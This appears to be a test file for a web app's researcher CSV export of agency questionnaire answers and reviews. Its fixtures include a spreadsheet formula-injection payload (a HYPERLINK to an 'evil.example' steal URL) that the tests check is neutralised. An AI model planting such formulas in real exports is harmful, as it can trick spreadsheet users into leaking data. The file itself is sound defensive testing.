// The agencies export against a real database: one agency's row (details, the submitted answers
// and never the draft, means, reviews in order of reviewer name, formulas neutralised), an agency
// with nothing yet, the data dictionary naming every column, and the two download routes' guards.
// The database is shared with other tests running at the same time: rows are picked out by the
// ids of this file's own agencies, and nothing assumes how many agencies or reviews exist.
import { beforeEach, describe, expect, it, vi } from "vitest";
import { createResearcherUser, createStaff, unique } from "@/lib/accounts/test-helpers";
import { BOM } from "@/lib/csv";
import { db } from "@/lib/db";
import { SECTION_KEYS, sectionAnswers, sectionSchemas, type QuestionnaireAnswers } from "@/lib/eoi/schema";
import type { Prisma } from "@/lib/generated/prisma/client";
import { expectNotFound, expectSentToSignIn, parseCsv, rowOf } from "@/test/csv-downloads";
import { agencyExport, agencyExportDictionary } from "./export";

const session = vi.hoisted(() => ({ current: null as null | { user: Record<string, unknown>; expires: string } }));
vi.mock("next-auth", async (importOriginal) => ({
  ...(await importOriginal<typeof import("next-auth")>()),
  getServerSession: async () => session.current,
}));

const HYPERLINK = '=HYPERLINK("http://evil.example/?steal","Click for details")';

function submittedAnswers(token: string): QuestionnaireAnswers {
  return {
    eligibility: {
      clientGroups: ["MENTAL_HEALTH_WORKING_AGE", "LEARNING_DISABILITY"],
      otherClientGroups: "Carers, sometimes",
    },
    team: {
      organisation: `Org ${token}`,
      teamName: HYPERLINK,
      sector: "NHS",
      region: "NORTH_EAST",
      address: "1 Quay Street,\r\nNewcastle upon Tyne",
      contactName: "Siân Ŵyn",
      contactRole: "Team manager",
      contactEmail: `sian.${token}@example.org`,
      contactPhone: "+44 191 496 0123",
    },
    size: { frontLineWorkers: 12, supervisors: 2, caseload: 1240 },
    practice: {
      community: { rating: 7, examples: `We meet at the "Café", the library, and the park ${token}.` },
      coProduction: { rating: 5, examples: "Goals agreed together.\nReviewed monthly." },
      networks: { rating: 3, examples: "" },
      activities: { rating: 9, examples: "-walking group\n-choir" },
      communityLinks: { rating: 1, examples: "@localgroups on social media" },
      supervision: { rating: 4, examples: "Monthly supervision 🎉" },
    },
    capacity: {
      releaseWorkers: true,
      releaseSupervisors: false,
      managerSupports: true,
      referrals: 20,
      reorganisation: "",
      trainingPlaces: "Newcastle, Durham",
      trainingMonths: "October",
    },
    agreement: { evaluation: true, recruitment: true },
  };
}

async function buildAgencies() {
  const token = unique();
  const answers = submittedAnswers(token);
  for (const key of SECTION_KEYS) {
    expect(sectionSchemas[key].safeParse(sectionAnswers(answers, key)).success, key).toBe(true);
  }
  const draft = { ...answers, team: { ...answers.team, teamName: `Draft name ${token}` } };
  const scored = await db.agency.create({
    data: {
      organisation: `Organisation ${token}`,
      teamName: `Team ${token}, "North"`,
      sector: "NHS",
      region: "NORTH_EAST",
      clientGroups: ["MENTAL_HEALTH_WORKING_AGE", "LEARNING_DISABILITY"],
      stage: "RESERVE",
      reserveRank: 3,
      decisionSentStage: "RESERVE",
      decisionSentAt: new Date("2030-04-01T09:15:30.250Z"),
      expressionOfInterest: {
        create: {
          status: "DRAFT",
          answers: draft as Prisma.InputJsonValue,
          submittedAnswers: answers as Prisma.InputJsonValue,
          submittedAt: new Date("2030-03-12T10:00:00Z"),
          reopenedAt: new Date("2030-03-20T10:00:00Z"),
        },
      },
    },
  });
  const empty = await db.agency.create({ data: { organisation: `Organisation ${token}`, teamName: `Empty ${token}` } });

  // Created Zebra first, Aardvark second: the export orders the reviews by name, not by time.
  const zebra = await createResearcherUser();
  await db.user.update({ where: { id: zebra.id }, data: { name: `Zebra ${token}` } });
  const aardvark = await createResearcherUser();
  await db.user.update({ where: { id: aardvark.id }, data: { name: `Aardvark ${token}` } });
  await db.review.create({
    data: {
      agencyId: scored.id,
      reviewerId: zebra.id,
      similarityScore: 4,
      similarityNote: "Strong, already in the community",
      trainingCapacityScore: 3,
      recruitmentCapacityScore: 5,
      recruitmentCapacityNote: "=1+1 referrals a week",
      clientGroupFitScore: 2,
    },
  });
  await db.review.create({
    data: {
      agencyId: scored.id,
      reviewerId: aardvark.id,
      similarityScore: 2,
      trainingCapacityScore: 3,
      recruitmentCapacityScore: 4,
      clientGroupFitScore: 2,
      clientGroupFitNote: 'Says "mostly" adults\nof working age',
    },
  });
  return { token, scored, empty, zebra, aardvark };
}

describe("the agencies export", () => {
  it("writes one row per agency with its details, submitted answers, means and every review", async () => {
    const { token, scored, empty, zebra } = await buildAgencies();
    const { header, rows } = await agencyExport();

    const byId = new Map(rows.map((row) => [row[header.indexOf("agency_id")], rowOf(header, row)]));
    const row = byId.get(scored.id)!;
    expect(row).toMatchObject({
      agency_code: scored.code,
      agency_id: scored.id,
      organisation: `Organisation ${token}`,
      team_name: `Team ${token}, "North"`,
      sector: "NHS",
      client_groups: "MENTAL_HEALTH_WORKING_AGE;LEARNING_DISABILITY",
      region: "NORTH_EAST",
      stage: "RESERVE",
      reserve_rank: 3,
      decision_sent: "RESERVE",
      decision_sent_at: new Date("2030-04-01T09:15:30.250Z"),
      questionnaire_status: "DRAFT",
      submitted_at: new Date("2030-03-12T10:00:00Z"),
      // The submitted answers, not the reopened draft's.
      eligibility_client_groups: "MENTAL_HEALTH_WORKING_AGE;LEARNING_DISABILITY",
      eligibility_other_client_groups: "Carers, sometimes",
      team_organisation: `Org ${token}`,
      team_team_name: HYPERLINK,
      team_sector: "NHS",
      team_region: "NORTH_EAST",
      team_contact_name: "Siân Ŵyn",
      team_contact_phone: "+44 191 496 0123",
      size_front_line_workers: 12,
      size_supervisors: 2,
      size_caseload: 1240,
      practice_community_rating: 7,
      practice_co_production_examples: "Goals agreed together.\nReviewed monthly.",
      practice_networks_examples: "",
      practice_group_links_rating: 1,
      practice_supervision_examples: "Monthly supervision 🎉",
      capacity_release_workers: true,
      capacity_release_supervisors: false,
      capacity_referrals: 20,
      capacity_training_places: "Newcastle, Durham",
      agreement_evaluation: true,
      agreement_recruitment: true,
      // Similarity 4 and 2, training 3 and 3, recruitment 5 and 4, client group 2 and 2.
      review_count: 2,
      mean_similarity: 3,
      mean_training_capacity: 3,
      mean_recruit_capacity: 4.5,
      mean_client_group_fit: 2,
      mean_overall: 3.13,
      disagreement: 2,
      // (7 + 5 + 3 + 9 + 1 + 4) / 6 = 4.8333…
      self_rated_practice_mean: 4.83,
      review_1_reviewer: `Aardvark ${token}`,
      review_1_similarity: 2,
      review_1_similarity_note: "",
      review_1_client_group_fit_note: 'Says "mostly" adults\nof working age',
      review_2_reviewer: `Zebra ${token}`,
      review_2_similarity: 4,
      review_2_training_capacity: 3,
      review_2_recruit_capacity: 5,
      review_2_recruit_capacity_note: "=1+1 referrals a week",
      review_2_client_group_fit: 2,
    });
    expect(row.review_2_updated_at).toEqual(
      (await db.review.findFirstOrThrow({ where: { agencyId: scored.id, reviewerId: zebra.id } })).updatedAt,
    );
    expect(Object.values(row)).not.toContain(`Draft name ${token}`);
    // Columns past this agency's two reviews are empty.
    for (const name of header.filter((column) => /^review_([3-9]|\d\d+)_/.test(column))) {
      expect(row[name], name).toBeNull();
    }

    const nothing = byId.get(empty.id)!;
    expect(nothing).toMatchObject({ questionnaire_status: "NOT_STARTED", stage: "DRAFT", review_count: 0 });
    for (const name of header.filter((column) =>
      /^(team_(?!name$)|eligibility_|size_|practice_|capacity_|agreement_|mean_|review_1_)/.test(column),
    )) {
      expect(nothing[name], name).toBeNull();
    }
    expect(nothing.disagreement).toBeNull();
    expect(nothing.self_rated_practice_mean).toBeNull();
    expect(nothing.client_groups).toBe("");

    // Every agency once, in order of its code.
    const codes = rows.map((cells) => cells[header.indexOf("agency_code")] as number);
    expect(codes).toEqual([...codes].sort((a, b) => a - b));
    expect(new Set(codes).size).toBe(codes.length);
    expect(codes.indexOf(scored.code)).toBeLessThan(codes.indexOf(empty.code));
  });

  it("names every column in the data dictionary, with Stata-safe names, types and codes", async () => {
    await buildAgencies();
    const { header, rows, dictionary } = await agencyExport();
    expect(dictionary.map((entry) => entry.column)).toEqual(header);
    expect(new Set(header).size).toBe(header.length);
    for (const name of header) expect(name).toMatch(/^[a-z][a-z0-9_]{0,31}$/);
    for (const row of rows) expect(row).toHaveLength(header.length);
    for (const entry of dictionary) expect(entry.label.length, entry.column).toBeGreaterThan(3);

    const entry = (column: string) => dictionary.find((item) => item.column === column);
    expect(entry("agency_code")?.notes).toContain("byte-order mark");
    expect(entry("team_sector")).toMatchObject({
      type: "code",
      values: expect.stringContaining("LOCAL_AUTHORITY = Local authority"),
    });
    expect(entry("team_contact_phone")).toMatchObject({ type: "text", notes: expect.stringContaining("apostrophe") });
    expect(entry("capacity_release_workers")).toMatchObject({ type: "boolean", values: "1 = yes; 0 = no" });
    expect(entry("size_caseload")).toMatchObject({ type: "integer", values: "0 to 20000" });
    expect(entry("stage")?.values).toContain("RESERVE = On the reserve list");
    expect(entry("mean_overall")).toMatchObject({ type: "number" });
    expect(entry("review_2_recruit_capacity")?.values).toContain("5 – excellent");
    expect(entry("submitted_at")).toMatchObject({ type: "datetime", notes: expect.stringContaining("UTC") });
    // Every field of every section of the questionnaire has its column.
    for (const key of SECTION_KEYS) {
      for (const field of Object.keys(sectionSchemas[key].shape)) {
        const snake = field.replace(/[A-Z]/g, (letter) => `_${letter.toLowerCase()}`);
        expect(
          header.some((column) => column.endsWith(`_${snake}`)),
          `${key}.${field}`,
        ).toBe(true);
      }
    }

    const alone = await agencyExportDictionary();
    expect(alone.filter((item) => !item.column.startsWith("review_"))).toEqual(
      dictionary.filter((item) => !item.column.startsWith("review_")),
    );
  });
});

describe("the download routes", () => {
  const exportUrl = "http://localhost:3000/researcher/export/agencies";
  const dictionaryUrl = "http://localhost:3000/researcher/export/agencies/dictionary";
  const routes = async () => ({
    csv: (await import("@/app/(app)/researcher/export/agencies/route")).GET,
    dictionary: (await import("@/app/(app)/researcher/export/agencies/dictionary/route")).GET,
  });

  it("sends a signed-out visitor to sign in, and coming back here after", async () => {
    const { csv, dictionary } = await routes();
    await expectSentToSignIn(csv, exportUrl);
    await expectSentToSignIn(dictionary, dictionaryUrl);
  });

  it("answers agency staff with not found, and no data", async () => {
    const { scored } = await buildAgencies();
    const lead = await createStaff(scored.id, "LEAD");
    session.current = { user: lead, expires: "2999-01-01T00:00:00Z" };
    const { csv, dictionary } = await routes();
    await expectNotFound(csv, exportUrl, [scored.id]);
    await expectNotFound(dictionary, dictionaryUrl, [scored.id]);
  });

  it("gives a researcher the CSV: UTF-8 with a BOM, quoted and neutralised, with a matching dictionary", async () => {
    const { token, scored } = await buildAgencies();
    session.current = { user: await createResearcherUser(), expires: "2999-01-01T00:00:00Z" };
    const { csv, dictionary } = await routes();

    const response = await csv(new Request(exportUrl));
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toMatch(
      /^attachment; filename="connecting-people-agencies-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(response.headers.get("Cache-Control")).toBe("no-store");
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString("utf8");
    expect(text.startsWith(`${BOM}agency_code,agency_id,`)).toBe(true);
    expect(text.endsWith("\r\n")).toBe(true);

    const [header = [], ...records] = parseCsv(text.slice(BOM.length));
    for (const record of records) expect(record).toHaveLength(header.length);
    const row = Object.fromEntries(
      header.map((name, i) => [name, records.find((record) => record[1] === scored.id)![i]]),
    );
    expect(row).toMatchObject({
      team_name: `Team ${token}, "North"`,
      team_team_name: `'${HYPERLINK}`,
      team_contact_phone: "'+44 191 496 0123",
      team_contact_name: "Siân Ŵyn",
      team_address: "1 Quay Street,\r\nNewcastle upon Tyne",
      practice_community_examples: `We meet at the "Café", the library, and the park ${token}.`,
      practice_activities_examples: "'-walking group\n-choir",
      practice_group_links_examples: "'@localgroups on social media",
      decision_sent_at: "2030-04-01T09:15:30Z",
      submitted_at: "2030-03-12T10:00:00Z",
      capacity_release_workers: "1",
      capacity_release_supervisors: "0",
      mean_recruit_capacity: "4.5",
      mean_overall: "3.13",
      review_2_recruit_capacity_note: "'=1+1 referrals a week",
      review_1_client_group_fit_note: 'Says "mostly" adults\nof working age',
      reserve_rank: "3",
    });
    // The raw text quotes the formula so its own quotes and comma stay inside one cell.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?steal"",""Click for details"")"`);

    const dictionaryResponse = await dictionary(new Request(dictionaryUrl));
    expect(dictionaryResponse.status).toBe(200);
    expect(dictionaryResponse.headers.get("Content-Disposition")).toBe(
      'attachment; filename="connecting-people-agencies-dictionary.csv"',
    );
    const [dictionaryHeader, ...entries] = parseCsv((await dictionaryResponse.text()).replace(/^\uFEFF/, ""));
    expect(dictionaryHeader).toEqual(["column", "label", "type", "values", "notes"]);
    // Other tests may add reviews meanwhile: the columns before the reviews match exactly, and the
    // review columns come in whole, numbered groups.
    const columns = entries.map((entry) => entry[0]);
    const notReview = (name: string | undefined) => !name?.startsWith("review_") || name === "review_count";
    expect(columns.filter(notReview)).toEqual(header.filter(notReview));
    expect(columns.slice(0, columns.indexOf("review_1_reviewer"))).toEqual(header.filter(notReview));
    const groups = columns.filter((name) => /^review_\d+_reviewer$/.test(name!)).length;
    expect(groups).toBeGreaterThanOrEqual(2);
    expect(columns.length).toBe(header.filter(notReview).length + groups * 10);
  });
});

beforeEach(() => {
  session.current = null;
});
